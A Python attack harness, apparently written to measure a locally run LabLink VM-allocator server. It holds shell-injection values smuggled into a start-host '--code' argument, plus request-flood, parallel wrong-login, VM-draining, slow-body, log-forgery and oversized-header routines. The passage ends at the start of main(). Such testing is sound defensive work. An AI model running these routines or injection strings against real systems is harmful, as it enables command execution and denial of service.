#!/usr/bin/env python3
"""Measures a running LabLink allocator server the way an attacker would.

Usage:
    python3 scripts/attack.py --url http://127.0.0.1:PORT --admin-user admin \
        --admin-password PW [--log FILE] [--metrics-token T] [--access-code C] \
        [--json-out FILE]

It launches VMs through the admin API (the server should use the fake provisioner and
agent auth "open"), makes them available through the agent routes, then runs each attack
and prints one line per attack: `attack | result`. Every socket has a timeout and every
attack is bounded; a watchdog ends the run (printing what it has) after --max-seconds.

Standard library only (Python 3.11).
"""

import argparse
import base64
import http.client
import json
import os
import random
import re
import socket
import sys
import threading
import time
import urllib.parse
from concurrent.futures import ThreadPoolExecutor

# A backstop: no socket without a timeout, whatever a helper forgets.
socket.setdefaulttimeout(30)

SHELL_META = set("$`;|&><()") | set(" \t\n\r\v\f")
RUN = "%06x" % random.randrange(1 << 24)
VALID_CODE_CMD = (
    'DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="4/0AbCdEf{tag}" '
    '--redirect-url="https://remotedesktop.google.com/_/oauthredirect" --name=$(hostname)'
)
SHELL_REPEAT_CMD = (
    'DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="4/0Aok" '
    "--code=$(touch${IFS}/tmp/x) "
    '--redirect-url="https://remotedesktop.google.com/_/oauthredirect" --name=$(hostname)'
)
SHELL_ABBREV_CMD = (
    'DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="4/0Aok" '
    "--cod=$(touch${IFS}/tmp/x) "
    '--redirect-url="https://remotedesktop.google.com/_/oauthredirect" --name=$(hostname)'
)


def valid_cmd():
    return VALID_CODE_CMD.format(tag="%08x" % random.randrange(1 << 32))


# --------------------------------------------------------------------------------------
# HTTP plumbing
# --------------------------------------------------------------------------------------


class Resp:
    def __init__(self, status, headers, body, elapsed):
        self.status = status
        self.headers = headers  # list of (name, value)
        self.body = body
        self.elapsed = elapsed

    def header(self, name):
        name = name.lower()
        for k, v in self.headers:
            if k.lower() == name:
                return v
        return None

    def header_all(self, name):
        name = name.lower()
        return [v for k, v in self.headers if k.lower() == name]

    def text(self):
        return self.body.decode("utf-8", "replace")

    def json(self):
        try:
            return json.loads(self.body.decode("utf-8"))
        except Exception:
            return None

    def error_msg(self):
        j = self.json()
        if isinstance(j, dict) and "error" in j:
            return str(j["error"])[:120]
        return self.text()[:80].replace("\n", " ")


class Client:
    """One keep-alive connection, reopened when the server closes it."""

    def __init__(self, target, timeout=10.0, source=None):
        self.t = target
        self.timeout = timeout
        self.source = source
        self.conn = None

    def _open(self):
        kw = {"timeout": self.timeout}
        if self.source:
            kw["source_address"] = (self.source, 0)
        self.conn = http.client.HTTPConnection(self.t.host, self.t.port, **kw)

    def close(self):
        if self.conn is not None:
            try:
                self.conn.close()
            except Exception:
                pass
            self.conn = None

    def request(self, method, path, body=None, headers=None, retry=True):
        headers = dict(headers or {})
        if isinstance(body, str):
            body = body.encode("utf-8")
        for attempt in (0, 1):
            if self.conn is None:
                self._open()
            start = time.monotonic()
            try:
                self.conn.request(method, path, body=body, headers=headers)
                r = self.conn.getresponse()
                data = r.read()
                elapsed = time.monotonic() - start
                resp = Resp(r.status, r.getheaders(), data, elapsed)
                if r.will_close:
                    self.close()
                return resp
            except (http.client.RemoteDisconnected, BrokenPipeError,
                    ConnectionResetError, http.client.CannotSendRequest,
                    http.client.ResponseNotReady) as e:
                self.close()
                if attempt == 1 or not retry:
                    raise
            except Exception:
                self.close()
                raise
        raise RuntimeError("unreachable")


class Target:
    def __init__(self, url, user, password, access_code, metrics_token):
        u = urllib.parse.urlsplit(url)
        if u.scheme != "http":
            raise SystemExit("only http:// URLs are supported")
        self.host = u.hostname or "127.0.0.1"
        self.port = u.port or 80
        self.user = user
        self.password = password
        self.access_code = access_code
        self.metrics_token = metrics_token
        self.spare_sources = ["127.0.0.%d" % i for i in range(200, 250)]

    def basic(self, user=None, password=None):
        user = self.user if user is None else user
        password = self.password if password is None else password
        tok = base64.b64encode(("%s:%s" % (user, password)).encode()).decode()
        return "Basic " + tok

    def once(self, method, path, body=None, headers=None, timeout=10.0, source=None):
        c = Client(self, timeout=timeout, source=source)
        try:
            return c.request(method, path, body=body, headers=headers, retry=False)
        finally:
            c.close()

    def admin(self, method, path, body=None, timeout=15.0):
        """An admin call with Basic auth; on 429 from this address, once more from another
        loopback address (so an earlier lock-out does not break the measurement)."""
        headers = {"Authorization": self.basic(), "Accept": "application/json"}
        if body is not None:
            headers["Content-Type"] = "application/json"
            body = json.dumps(body)
        r = self.once(method, path, body=body, headers=headers, timeout=timeout)
        if r.status == 429:
            src = random.choice(self.spare_sources)
            try:
                r = self.once(method, path, body=body, headers=headers, timeout=timeout,
                              source=src)
            except OSError:
                pass
        return r

    def participant_fields(self, email, command):
        fields = {"email": email, "crd_command": command}
        if self.access_code:
            fields["access_code"] = self.access_code
        return fields

    def request_vm(self, client, email, command, as_json_body=False, accept_json=True,
                   path="/api/request_vm", extra_headers=None):
        fields = self.participant_fields(email, command)
        headers = {}
        if as_json_body:
            body = json.dumps(fields)
            headers["Content-Type"] = "application/json"
        else:
            body = urllib.parse.urlencode(fields)
            headers["Content-Type"] = "application/x-www-form-urlencoded"
        headers["Accept"] = "application/json" if accept_json else "text/html"
        if extra_headers:
            headers.update(extra_headers)
        return client.request("POST", path, body=body, headers=headers)

    def unassigned(self):
        r = self.once("GET", "/api/unassigned_vms_count", headers={"Accept": "application/json"},
                      timeout=5)
        j = r.json()
        if r.status == 200 and isinstance(j, dict) and isinstance(j.get("count"), int):
            return j["count"]
        return None


# --------------------------------------------------------------------------------------
# Raw sockets
# --------------------------------------------------------------------------------------


def _response_complete(data):
    end = data.find(b"\r\n\r\n")
    if end < 0:
        return False
    head = data[:end].decode("latin-1").lower()
    body = data[end + 4:]
    m = re.search(r"^content-length:\s*(\d+)", head, re.M)
    if m:
        return len(body) >= int(m.group(1))
    if re.search(r"^transfer-encoding:.*chunked", head, re.M):
        return body.endswith(b"0\r\n\r\n")
    status = re.match(r"http/1\.\d (\d{3})", head)
    if status and (status.group(1).startswith("1") or status.group(1) in ("204", "304")):
        return True
    return False


def _decode_body(data):
    end = data.find(b"\r\n\r\n")
    if end < 0:
        return b""
    head = data[:end].decode("latin-1").lower()
    body = data[end + 4:]
    if re.search(r"^transfer-encoding:.*chunked", head, re.M):
        out = b""
        rest = body
        while rest:
            line, _, rest = rest.partition(b"\r\n")
            try:
                n = int(line.split(b";")[0].strip() or b"0", 16)
            except ValueError:
                break
            if n == 0:
                break
            out += rest[:n]
            rest = rest[n + 2:]
        return out
    return body


def raw_exchange(target, payload, timeout=5.0):
    """Sends `payload` (in a thread, so a server that answers early and closes is still
    heard) and reads the answer. Returns a dict with status, body, note."""
    s = socket.create_connection((target.host, target.port), timeout=timeout)
    s.settimeout(timeout)
    send_error = []

    def sender():
        try:
            s.sendall(payload)
        except OSError as e:
            send_error.append(type(e).__name__)

    th = threading.Thread(target=sender, daemon=True)
    th.start()
    data = b""
    note = ""
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            try:
                chunk = s.recv(65536)
            except socket.timeout:
                note = "no answer within %.0f s" % timeout
                break
            except ConnectionResetError:
                note = "connection reset"
                break
            except OSError as e:
                note = "recv error %s" % type(e).__name__
                break
            if not chunk:
                note = note or "closed"
                break
            data += chunk
            if _response_complete(data):
                break
    finally:
        try:
            s.close()
        except OSError:
            pass
    th.join(1)
    status = None
    m = re.match(rb"HTTP/1\.\d (\d{3})", data)
    if m:
        status = int(m.group(1))
    body = _decode_body(data)
    is_json = False
    if body.strip():
        try:
            j = json.loads(body.decode("utf-8"))
            is_json = bool(j) and isinstance(j, (dict, list))
        except Exception:
            is_json = False
    if send_error:
        note = (note + "; " if note else "") + "send failed: " + send_error[0]
    return {"status": status, "body_len": len(body), "json_body": is_json, "note": note,
            "body_head": body[:100].decode("utf-8", "replace")}


# --------------------------------------------------------------------------------------
# Log helpers
# --------------------------------------------------------------------------------------


def log_size(path):
    try:
        return os.path.getsize(path)
    except OSError:
        return None


def log_read_from(path, offset):
    try:
        with open(path, "rb") as f:
            f.seek(offset or 0)
            return f.read()
    except OSError:
        return b""


# --------------------------------------------------------------------------------------
# The run
# --------------------------------------------------------------------------------------


class Run:
    def __init__(self, target, log):
        self.t = target
        self.log = log
        self.results = {}  # key -> dict(result=..., data=...)
        self.order = []
        self.hostnames = []
        self.lock = threading.Lock()

    def record(self, key, result, **data):
        with self.lock:
            if key not in self.order:
                self.order.append(key)
            self.results[key] = {"attack": key, "result": result, "data": data}

    def guarded(self, key, fn):
        try:
            fn()
        except Exception as e:  # noqa: BLE001 - every attack reports its own failure
            self.record(key, "error: %s: %s" % (type(e).__name__, str(e)[:200]))

    # ---------------------------------------------------------------- setup

    def setup(self, wanted=1100):
        t = self.t
        start = time.monotonic()
        notes = []
        launched = 0
        max_seen = None
        r = t.admin("POST", "/api/launch", {"num_vms": wanted})
        if r.status in (200, 201, 202):
            launched = wanted
            notes.append("one launch of %d: %d" % (wanted, r.status))
        else:
            notes.append("launch of %d refused: %d %s" % (wanted, r.status, r.error_msg()))
            if r.status in (401, 403, 429):
                raise RuntimeError("admin launch refused: %d %s" % (r.status, r.error_msg()))
            m = re.search(r"between 1 and (\d+)", r.error_msg())
            if m:
                max_seen = int(m.group(1))
            batch = 100
            deadline = time.monotonic() + 90
            while launched < wanted and time.monotonic() < deadline:
                n = min(batch, wanted - launched)
                r = t.admin("POST", "/api/launch", {"num_vms": n})
                if r.status in (200, 201, 202):
                    launched += n
                elif r.status == 409:
                    time.sleep(0.3)  # another launch still running
                elif r.status == 400 and batch > 1:
                    batch = max(1, batch // 2)
                elif r.status == 503 or r.status == 429:
                    time.sleep(1)
                else:
                    notes.append("batch of %d refused: %d %s" % (n, r.status, r.error_msg()))
                    break
            notes.append("batches of %d" % batch)
        # Wait until no launched VM is still being provisioned, then report them running.
        deadline = time.monotonic() + 60
        vms = []
        while time.monotonic() < deadline:
            r = t.admin("GET", "/api/v1/vms", timeout=20)
            vms = r.json() if r.status == 200 else []
            if not isinstance(vms, list):
                vms = []
            pending = [v for v in vms if v.get("state") == "requested"]
            if not pending:
                break
            time.sleep(0.5)
        self.hostnames = [v.get("hostname") for v in vms if v.get("hostname")]
        booting = [v["hostname"] for v in vms if v.get("state") in ("booting", "rebooting")]

        def report_running(names):
            c = Client(t, timeout=10)
            bad = 0
            try:
                for h in names:
                    rr = c.request("POST", "/api/vm-status",
                                   body=json.dumps({"hostname": h, "status": "running"}),
                                   headers={"Content-Type": "application/json"})
                    if rr.status != 200:
                        bad += 1
            finally:
                c.close()
            return bad

        bad = 0
        if booting:
            chunks = [booting[i::8] for i in range(8)]
            with ThreadPoolExecutor(8) as ex:
                bad = sum(ex.map(report_running, chunks))
        need = min(1005, len(self.hostnames))
        count = None
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            count = t.unassigned()
            if count is not None and count >= need:
                break
            time.sleep(0.3)
        summary = ("launched %d VMs (%s; server max per launch: %s); %d reported running "
                   "(%d refused); free VMs: %s; %.1f s"
                   % (launched, "; ".join(notes), max_seen if max_seen else "n/a",
                      len(booting), bad, count, time.monotonic() - start))
        self.record("setup", summary, launched=launched, max_per_launch=max_seen,
                    vms=len(self.hostnames), free=count)
        self.free_after_setup = count

    # ---------------------------------------------------------------- 1, 2

    def _shell(self, key, command):
        t = self.t
        c = Client(t, timeout=10)
        try:
            r = t.request_vm(c, "%s-%s@example.org" % (key.replace("_", "-"), RUN), command)
        finally:
            c.close()
        if r.status != 200:
            self.record(key, "request answered %d (%s): command refused, nothing reaches a VM"
                        % (r.status, r.error_msg()), status=r.status)
            return
        j = r.json() or {}
        host = j.get("hostname")
        if not host:
            self.record(key, "request answered 200 without a hostname", status=200)
            return
        s = t.once("POST", "/vm_startup", body=json.dumps({"hostname": host}),
                   headers={"Content-Type": "application/json"}, timeout=5)
        sj = s.json() or {}
        cmd = sj.get("command")
        if s.status != 200 or not isinstance(cmd, str):
            self.record(key, "request 200 (%s); /vm_startup answered %d (%s)"
                        % (host, s.status, s.error_msg()), status=200, startup=s.status)
            return
        parser = argparse.ArgumentParser(add_help=False)
        parser.add_argument("--code")
        try:
            args, _ = parser.parse_known_args(cmd.split())
            code = args.code
        except SystemExit:
            code = None
        if code is None:
            self.record(key, "request 200 (%s); the 0.1.2 client finds no --code in the "
                        "delivered command" % host, status=200, delivered=cmd)
            return
        shell = any(ch in SHELL_META for ch in code)
        self.record(key, "request 200 (%s); delivered command %s; 0.1.2 client would run "
                    "`start-host --code=%s` via /bin/sh; would run a shell: %s"
                    % (host, "unchanged" if cmd == command else "rewritten", code,
                       "yes" if shell else "no"),
                    status=200, hostname=host, delivered=cmd, code=code, shell=shell)

    def shell_repeat(self):
        self._shell("shell_repeat", SHELL_REPEAT_CMD)

    def shell_abbrev(self):
        self._shell("shell_abbrev", SHELL_ABBREV_CMD)

    # ---------------------------------------------------------------- 3

    def flood(self, n=1000, threads=8):
        t = self.t
        counts = {}
        retry_after = set()
        lock = threading.Lock()
        idx = iter(range(n))
        idx_lock = threading.Lock()

        def worker():
            c = Client(t, timeout=10)
            try:
                while True:
                    with idx_lock:
                        i = next(idx, None)
                    if i is None:
                        return
                    try:
                        r = t.request_vm(c, "flood-%s-%d@example.org" % (RUN, i), valid_cmd())
                        key = str(r.status)
                        ra = r.header("Retry-After")
                    except Exception as e:  # noqa: BLE001
                        key, ra = "err:" + type(e).__name__, None
                    with lock:
                        counts[key] = counts.get(key, 0) + 1
                        if ra is not None and key == "429":
                            retry_after.add(ra)
            finally:
                c.close()

        start = time.monotonic()
        ths = [threading.Thread(target=worker, daemon=True) for _ in range(threads)]
        for th in ths:
            th.start()
        for th in ths:
            th.join(60)
        elapsed = time.monotonic() - start
        done = sum(counts.values())
        per = ", ".join("%s: %d" % (k, counts[k]) for k in sorted(counts))
        ra = ", ".join(sorted(retry_after)) if retry_after else "none"
        self.record("flood", "%d requests from one client (8 keep-alive threads): %s; "
                    "%.2f s, %.0f req/s; Retry-After on 429: %s"
                    % (done, per, elapsed, done / elapsed if elapsed else 0, ra),
                    counts=counts, elapsed=elapsed, retry_after=sorted(retry_after))

    # ---------------------------------------------------------------- 4

    def email_takeover(self):
        t = self.t
        a = Client(t, timeout=10)
        try:
            r = t.request_vm(a, "victim@x.org", valid_cmd())
        finally:
            a.close()
        if r.status != 200:
            self.record("email_takeover", "victim's own request answered %d (%s); nothing to "
                        "take over" % (r.status, r.error_msg()), status=r.status)
            return
        j = r.json() or {}
        host, pin = j.get("hostname"), j.get("pin")
        cookies = []
        for sc in r.header_all("Set-Cookie"):
            cookies.append(sc.split(";", 1)[0].strip())
        cookie_header = "; ".join(c for c in cookies if c)

        def leaked(resp):
            if resp.status != 200 and not resp.body:
                return False, False
            jj = resp.json()
            if isinstance(jj, dict):
                return jj.get("hostname") == host, jj.get("pin") == pin
            txt = resp.text()
            h = bool(host) and re.search(r"(?<![\w-])%s(?![\w-])" % re.escape(host), txt)
            p = bool(pin) and re.search(r"(?<!\d)%s(?!\d)" % re.escape(pin), txt)
            return bool(h), bool(p)

        out = {}
        parts = []
        for label, kw in (
            ("HTML", dict(as_json_body=False, accept_json=False)),
            ("JSON", dict(as_json_body=True, accept_json=True)),
            ("v1", dict(as_json_body=True, accept_json=True, path="/api/v1/requests")),
        ):
            b = Client(t, timeout=10)  # fresh connection, no cookies
            try:
                rb = t.request_vm(b, " VICTIM@x.org ", valid_cmd(), **kw)
            finally:
                b.close()
            h, p = leaked(rb)
            out[label] = {"status": rb.status, "hostname_leaked": h, "pin_leaked": p}
            parts.append("B %s: %d, A's hostname %s, A's PIN %s"
                         % (label, rb.status, "YES" if h else "no", "YES" if p else "no"))
        a2 = Client(t, timeout=10)
        try:
            extra = {"Cookie": cookie_header} if cookie_header else None
            ra = t.request_vm(a2, "victim@x.org", valid_cmd(), extra_headers=extra)
        finally:
            a2.close()
        ja = ra.json() or {}
        back = ra.status == 200 and ja.get("hostname") == host and ja.get("pin") == pin
        parts.append("A again%s: %d, own hostname+PIN back: %s"
                     % (" with cookie" if cookie_header else " (no cookie was set)",
                        ra.status, "yes" if back else "no"))
        self.record("email_takeover", "A got %s; " % host + "; ".join(parts),
                    victim_hostname=host, cookies=len(cookies), b=out,
                    a_repeat={"status": ra.status, "same": back})

    # ---------------------------------------------------------------- 5

    def parallel_signin(self, n=60):
        t = self.t
        barrier = threading.Barrier(n + 1)
        statuses = {}
        lock = threading.Lock()
        legit = {}

        def wrong(i):
            try:
                barrier.wait(10)
            except threading.BrokenBarrierError:
                pass
            try:
                r = t.once("GET", "/api/v1/vms",
                           headers={"Authorization": t.basic(password="wrong-%d-%s" % (i, RUN)),
                                    "Accept": "application/json"}, timeout=30)
                key = str(r.status)
            except Exception as e:  # noqa: BLE001
                key = "err:" + type(e).__name__
            with lock:
                statuses[key] = statuses.get(key, 0) + 1

        ths = [threading.Thread(target=wrong, args=(i,), daemon=True) for i in range(n)]
        for th in ths:
            th.start()
        try:
            barrier.wait(10)
        except threading.BrokenBarrierError:
            pass
        t0 = time.monotonic()

        def legit_login():
            time.sleep(max(0.0, t0 + 0.5 - time.monotonic()))
            s = time.monotonic()
            try:
                r = t.once("GET", "/api/v1/vms",
                           headers={"Authorization": t.basic(), "Accept": "application/json"},
                           timeout=30, source="127.0.0.2")
                legit["status"] = r.status
            except Exception as e:  # noqa: BLE001
                legit["status"] = "error: %s" % type(e).__name__
            legit["latency"] = time.monotonic() - s

        lt = threading.Thread(target=legit_login, daemon=True)
        lt.start()
        for th in ths:
            th.join(max(0.1, t0 + 40 - time.monotonic()))
        elapsed = time.monotonic() - t0
        lt.join(max(0.1, t0 + 40 - time.monotonic()))
        s = time.monotonic()
        try:
            r = t.once("GET", "/api/v1/vms",
                       headers={"Authorization": t.basic(), "Accept": "application/json"},
                       timeout=30)
            after = r.status
        except Exception as e:  # noqa: BLE001
            after = "error: %s" % type(e).__name__
        after_lat = time.monotonic() - s
        per = ", ".join("%s: %d" % (k, statuses[k]) for k in sorted(statuses))
        self.record("parallel_signin",
                    "%d parallel wrong logins: %s in %.2f s; correct login from 127.0.0.2 "
                    "during the attack (credentials already used in setup): %s in %.3f s; "
                    "correct login from 127.0.0.1 after: "
                    "%s in %.3f s"
                    % (n, per, elapsed, legit.get("status"), legit.get("latency", -1),
                       after, after_lat),
                    wrong=statuses, elapsed=elapsed, legit_other_address=legit,
                    legit_after={"status": after, "latency": after_lat})

    # ---------------------------------------------------------------- 6

    def metrics_open(self):
        t = self.t
        r = t.once("GET", "/metrics", timeout=10)
        series = sum(1 for ln in r.text().splitlines() if ln and not ln.startswith("#"))
        text = "GET /metrics without auth: %d (%d bytes, %d sample lines)" % (
            r.status, len(r.body), series if r.status == 200 else 0)
        data = {"status": r.status}
        if t.metrics_token:
            r2 = t.once("GET", "/metrics",
                        headers={"Authorization": "Bearer " + t.metrics_token}, timeout=10)
            text += "; with the token: %d" % r2.status
            data["with_token"] = r2.status
        self.record("metrics_open", text, **data)

    # ---------------------------------------------------------------- 7

    @staticmethod
    def _security_headers(resp):
        cc = resp.header("Cache-Control")
        csp = resp.header("Content-Security-Policy")
        found = {
            "Cache-Control": cc is not None,
            "no-store": bool(cc and "no-store" in cc.lower()),
            "X-Frame-Options": resp.header("X-Frame-Options") is not None,
            "CSP": csp is not None,
            "frame-ancestors": bool(csp and "frame-ancestors" in csp.lower()),
            "X-Content-Type-Options": resp.header("X-Content-Type-Options") is not None,
            "Referrer-Policy": resp.header("Referrer-Policy") is not None,
        }
        yn = lambda b: "yes" if b else "no"  # noqa: E731
        text = ("Cache-Control %s (no-store %s), X-Frame-Options %s, CSP %s (frame-ancestors "
                "%s), X-Content-Type-Options %s, Referrer-Policy %s"
                % (yn(found["Cache-Control"]), yn(found["no-store"]),
                   yn(found["X-Frame-Options"]), yn(found["CSP"]), yn(found["frame-ancestors"]),
                   yn(found["X-Content-Type-Options"]), yn(found["Referrer-Policy"])))
        return found, text

    def headers(self):
        t = self.t
        r = t.once("GET", "/", headers={"Accept": "text/html"}, timeout=10)
        f1, t1 = self._security_headers(r)
        c = Client(t, timeout=10)
        try:
            r2 = t.request_vm(c, "headers-%s@example.org" % RUN, valid_cmd(), accept_json=False)
        finally:
            c.close()
        f2, t2 = self._security_headers(r2)
        self.record("headers", "GET / (%d): %s || request_vm HTML answer (%d): %s"
                    % (r.status, t1, r2.status, t2),
                    index={"status": r.status, **f1}, answer={"status": r2.status, **f2})

    # ---------------------------------------------------------------- 8

    def request_id_forgery(self):
        t = self.t
        marker = "FORGED-LOG-LINE-%08x" % random.randrange(1 << 32)
        value = 'x"} %s {"' % marker
        r = t.once("GET", "/healthz", headers={"X-Request-Id": value}, timeout=10)
        echoed = r.header("X-Request-Id")
        echo_txt = "echoed back as sent" if echoed == value else (
            "not echoed" if echoed is None else "replaced by the server")
        if not self.log:
            self.record("request_id_forgery", "healthz %d, id %s; no log given"
                        % (r.status, echo_txt), status=r.status, echoed=echoed == value)
            return
        # The same forged id on a request the server does log (a participant request; after
        # nocapacity_log no VM is free, so it is answered 503 and logged).
        marker2 = "FORGED-LOG-LINE-%08x" % random.randrange(1 << 32)
        value2 = 'x"} %s {"' % marker2
        c = Client(t, timeout=10)
        try:
            r2 = t.request_vm(c, "reqid-%s@example.org" % RUN, valid_cmd(),
                              extra_headers={"X-Request-Id": value2})
        finally:
            c.close()
        time.sleep(0.5)
        text = log_read_from(self.log, 0).decode("utf-8", "replace").splitlines()

        def found(mk):
            lines = [ln for ln in text if mk in ln]
            raw = any(('x"} ' + mk) in ln for ln in lines)
            return lines, raw

        lines, raw = found(marker)
        lines2, raw2 = found(marker2)
        self.record("request_id_forgery",
                    "GET /healthz %d, id %s; marker in log: %s (%d lines)%s; same forged id on "
                    "a logged request (request_vm, %d): marker in log: %s (%d lines)%s"
                    % (r.status, echo_txt, "YES" if lines else "no", len(lines),
                       ", quote unescaped" if raw else "", r2.status,
                       "YES" if lines2 else "no", len(lines2),
                       ", quote unescaped" if raw2 else ""),
                    status=r.status, echoed=echoed == value, in_log=bool(lines),
                    raw_quote=raw, sample=lines[0][:400] if lines else None,
                    logged_request_status=r2.status, logged_request_in_log=bool(lines2),
                    logged_request_raw_quote=raw2,
                    logged_request_sample=lines2[0][:400] if lines2 else None)

    # ---------------------------------------------------------------- 9

    def nocapacity_log(self, n=20):
        t = self.t
        # Take every free VM first (from many loopback addresses, so a per-address rate
        # limit does not stop the draining), bounded in requests and time.
        drained = 0
        drain_status = {}
        start = time.monotonic()
        deadline = start + 30
        free = t.unassigned()
        sources = ["127.0.0.%d" % i for i in range(10, 200)]
        attempts = 0
        while free and free > 0 and time.monotonic() < deadline and attempts < 3000:
            batch = min(free + 5, 400)

            def take(i):
                src = sources[i % len(sources)]
                c = Client(t, timeout=10, source=src)
                try:
                    r = t.request_vm(c, "drain-%s-%d-%d@example.org" % (RUN, attempts, i),
                                     valid_cmd())
                    return r.status
                except Exception as e:  # noqa: BLE001
                    return "err:" + type(e).__name__
                finally:
                    c.close()

            with ThreadPoolExecutor(8) as ex:
                for st in ex.map(take, range(batch)):
                    drain_status[str(st)] = drain_status.get(str(st), 0) + 1
                    if st == 200:
                        drained += 1
            attempts += batch
            new_free = t.unassigned()
            if new_free is None or new_free >= free:
                break  # no progress (rate limited, refused): stop draining
            free = new_free
        free_before = t.unassigned()
        before = log_size(self.log) if self.log else None
        statuses = {}
        for i in range(n):
            src = sources[(i * 7) % len(sources)]
            c = Client(t, timeout=10, source=src)
            try:
                r = t.request_vm(c, "nocap-%s-%d@example.org" % (RUN, i), valid_cmd())
                key = str(r.status)
            except Exception as e:  # noqa: BLE001
                key = "err:" + type(e).__name__
            finally:
                c.close()
            statuses[key] = statuses.get(key, 0) + 1
        per = ", ".join("%s: %d" % (k, statuses[k]) for k in sorted(statuses))
        text = ("took %d remaining VMs first (free then: %s); %d requests with no VM free: %s; "
                "503s: %d" % (drained, free_before, n, per, statuses.get("503", 0)))
        data = {"drained": drained, "free_before": free_before, "statuses": statuses}
        if self.log:
            time.sleep(0.5)
            new = log_read_from(self.log, before).decode("utf-8", "replace").splitlines()
            errors = [ln for ln in new if "ERROR" in ln]
            warns = [ln for ln in new if "WARN" in ln]
            text += "; new log lines: %d ERROR, %d WARN, %d total" % (
                len(errors), len(warns), len(new))
            data.update(error_lines=len(errors), warn_lines=len(warns), new_lines=len(new),
                        error_sample=errors[0][:300] if errors else None)
        else:
            text += "; no log given"
        self.record("nocapacity_log", text, **data)

    # ---------------------------------------------------------------- 10

    def slow_body(self, cap=70.0):
        t = self.t
        s = socket.create_connection((t.host, t.port), timeout=5)
        head = ("POST /vm_startup HTTP/1.1\r\nHost: %s:%d\r\nContent-Type: application/json\r\n"
                "Content-Length: 100\r\n\r\n" % (t.host, t.port)).encode()
        start = time.monotonic()
        outcome = None
        data = b""
        try:
            s.sendall(head + b'{"hostnam')  # 10 of the announced 100 bytes
            s.settimeout(1.0)
            while time.monotonic() - start < cap:
                try:
                    chunk = s.recv(4096)
                except socket.timeout:
                    continue
                except ConnectionResetError:
                    outcome = "reset"
                    break
                if not chunk:
                    outcome = "closed" if not data else "answered"
                    break
                data += chunk
                if _response_complete(data):
                    outcome = "answered"
                    break
        finally:
            try:
                s.close()
            except OSError:
                pass
        elapsed = time.monotonic() - start
        m = re.match(rb"HTTP/1\.\d (\d{3})", data)
        status = int(m.group(1)) if m else None
        if outcome is None:
            self.record("slow_body", "10 of 100 body bytes sent, then silence: connection "
                        "still open after >%.0f s" % cap, still_open=True, elapsed=elapsed)
        else:
            self.record("slow_body", "10 of 100 body bytes sent, then silence: server %s%s "
                        "after %.1f s" % (outcome, " with %d" % status if status else "",
                                          elapsed),
                        still_open=False, outcome=outcome, status=status, elapsed=elapsed)

    # ---------------------------------------------------------------- 11

    def timings_range(self):
        t = self.t
        if not self.hostnames:
            self.record("timings_range", "no launched hostname to use")
            return
        host = self.hostnames[-1]

        def timings():
            r = t.admin("GET", "/api/v1/vms/%s" % urllib.parse.quote(host))
            j = r.json() if r.status == 200 else None
            return r.status, (j or {}).get("timings") if isinstance(j, dict) else None

        _, before = timings()
        body = {"cloud_init_start": 1e11, "cloud_init_end": 1e11 + 5,
                "cloud_init_duration_seconds": 1e308}
        r = t.once("POST", "/api/vm-metrics/%s" % urllib.parse.quote(host),
                   body=json.dumps(body), headers={"Content-Type": "application/json"},
                   timeout=10)
        st, after = timings()
        keys = ("cloud_init_start", "cloud_init_end", "cloud_init_duration_seconds")
        if after is None:
            self.record("timings_range", "POST %d (%s); readback failed (%d)"
                        % (r.status, r.error_msg(), st), status=r.status, readback=st)
            return
        stored = {}
        for k in keys:
            v = after.get(k)
            changed = v is not None and (before is None or before.get(k) != v)
            absurd = False
            if isinstance(v, (int, float)):
                absurd = v > 1e9
            elif isinstance(v, str):
                ym = re.match(r"\+?(\d{4,})-", v)
                absurd = bool(ym) and int(ym.group(1)) > 2200
            stored[k] = {"value": v, "stored": changed and absurd}
        any_stored = any(x["stored"] for x in stored.values())
        shown = ", ".join("%s=%s" % (k, stored[k]["value"]) for k in keys)
        extra = ""
        for k in ("total_startup_seconds",):
            if after.get(k) is not None:
                extra = "; %s=%s" % (k, after.get(k))
        self.record("timings_range", "POST %d%s; absurd values stored: %s (%s%s)"
                    % (r.status, "" if r.status == 200 else " (%s)" % r.error_msg(),
                       "YES" if any_stored else "no", shown, extra),
                    status=r.status, hostname=host, stored=stored, timings_after=after)

    # ---------------------------------------------------------------- 12

    def lowlevel_bodies(self):
        t = self.t
        hosthdr = "Host: %s:%d\r\n" % (t.host, t.port)
        cases = []
        cases.append(("a 70,000-char URI",
                      ("GET /healthz?pad=%s HTTP/1.1\r\n%sConnection: close\r\n\r\n"
                       % ("a" * 70000, hosthdr)).encode()))
        pad = "".join("X-Pad-%d: %s\r\n" % (i, "p" * 990) for i in range(600))
        cases.append(("b 600 KB of headers",
                      ("GET /healthz HTTP/1.1\r\n%s%sConnection: close\r\n\r\n"
                       % (hosthdr, pad)).encode()))
        cases.append(("c 10,000-char URI",
                      ("GET /healthz?pad=%s HTTP/1.1\r\n%sConnection: close\r\n\r\n"
                       % ("a" * 10000, hosthdr)).encode()))
        small = "".join("X-H-%d: v\r\n" % i for i in range(150))
        cases.append(("d 150 small headers",
                      ("GET /healthz HTTP/1.1\r\n%s%sConnection: close\r\n\r\n"
                       % (hosthdr, small)).encode()))
        cases.append(("e garbage request line", b"GARBAGE\r\n\r\n"))
        parts = []
        data = {}
        for label, payload in cases:
            try:
                res = raw_exchange(t, payload, timeout=5.0)
            except Exception as e:  # noqa: BLE001
                res = {"status": None, "json_body": False, "body_len": 0,
                       "note": "error %s" % type(e).__name__}
            data[label] = res
            desc = "%s: %s, body %s" % (
                label, res["status"] if res["status"] is not None else "no status",
                "JSON" if res["json_body"] else ("empty" if not res["body_len"] else
                                                  "non-JSON %d bytes" % res["body_len"]))
            if res["status"] is None and res.get("note"):
                desc += " (%s)" % res["note"]
            parts.append(desc)
        self.record("lowlevel_bodies", "; ".join(parts), cases=data)


ORDER = [
    "setup", "shell_repeat", "shell_abbrev", "flood", "email_takeover", "parallel_signin",
    "metrics_open", "headers", "request_id_forgery", "nocapacity_log", "slow_body",
    "timings_range", "lowlevel_bodies",
]


def render(run):
    keys = [k for k in ORDER if k in run.results] + [k for k in run.order if k not in ORDER]
    rows = [(k, run.results[k]["result"]) for k in keys]
    width = max([len("attack")] + [len(k) for k, _ in rows])
    out = ["%-*s | %s" % (width, "attack", "result"), "-" * width + "-+-" + "-" * 60]
    for k, v in rows:
        out.append("%-*s | %s" % (width, k, v))
    return "\n".join(out), [run.results[k] for k in keys]


def main():
